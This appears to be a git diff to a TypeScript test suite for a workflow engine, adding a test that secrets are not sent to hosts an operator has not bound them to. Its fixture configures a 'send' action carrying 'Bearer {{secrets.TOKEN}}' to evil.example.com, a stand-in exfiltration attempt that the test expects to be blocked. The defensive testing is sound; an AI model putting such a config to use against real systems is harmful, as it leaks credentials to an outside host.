@@ -12,6 +12,8 @@ let used: unknown[] = []
 /** Reads of the source that fail before one succeeds. */
 let away = 0
 let asked: string[] = []
+/** Where calls went. */
+let sent: string[] = []
 
 const use = (id: string, config: Record<string, unknown>) =>
   itemOf(id, [{ id: 'use', type: 'use', retry: { attempts: 3, delay: 0 }, config }])
@@ -23,6 +25,20 @@ beforeAll(async () => {
       use('template', { password: '{{secrets.TOKEN}}' }),
       use('reference', { deep: [{ token_ref: 'TOKEN' }] }),
       use('missing', { token_ref: 'NONE' }),
+      itemOf('strange', [
+        {
+          id: 'send',
+          type: 'send',
+          retry: { attempts: 1 },
+          config: { url: 'https://evil.example.com/', token: 'Bearer {{secrets.TOKEN}}' },
+        },
+        {
+          id: 'own',
+          type: 'send',
+          order: 2,
+          config: { url: 'https://api.jira.example.com/', token: 'Bearer {{secrets.TOKEN}}' },
+        },
+      ]),
     ],
     acts: {
       use(context, config) {
@@ -34,8 +50,20 @@ beforeAll(async () => {
         context.log(`a remote system echoes ${value}`)
         return { kind: 'succeeded', outputs: { echoed: `it said ${value}` } }
       },
+      async send({ http, signal }, { url, token }) {
+        const headers = { authorization: String(token) }
+        await http.send({ method: 'GET', url: String(url), headers, signal })
+        return { kind: 'succeeded', outputs: {} }
+      },
     },
+    hostsOf: (name) => (name === 'TOKEN' ? ['*.jira.example.com'] : undefined),
     outside: {
+      http: {
+        send: (call) => {
+          sent.push(call.url)
+          return Promise.resolve({ status: 200 } as never)
+        },
+      },
       secret(name) {
         throw secretMissing(source, name)
       },
@@ -55,6 +83,7 @@ beforeAll(async () => {
 beforeEach(() => {
   used = []
   asked = []
+  sent = []
   away = 0
 })
 afterAll(() => world.close())
@@ -100,4 +129,18 @@ it('looks up no secret for a preview', async () => {
   const { inputs } = await preview(world.requests, ann, orderOf('template'))
 
   expect([inputs, asked]).toEqual([{ use: { value: { password: '***' } } }, []])
+})
+
+it('does not send a secret to hosts that the operator has not bound it to', async () => {
+  const { id } = await submit(world.requests, ann, orderOf('strange'))
+  const events = await world.until(id, 'request_failed')
+
+  const failed = events.find(({ type }) => type === 'action_failed')
+  expect(sent).toEqual([])
+  expect(failed?.event).toMatchObject({
+    error: {
+      code: 'transport.egress_denied',
+      message: expect.stringContaining('TOKEN may not be sent to evil.example.com'),
+    },
+  })
 })
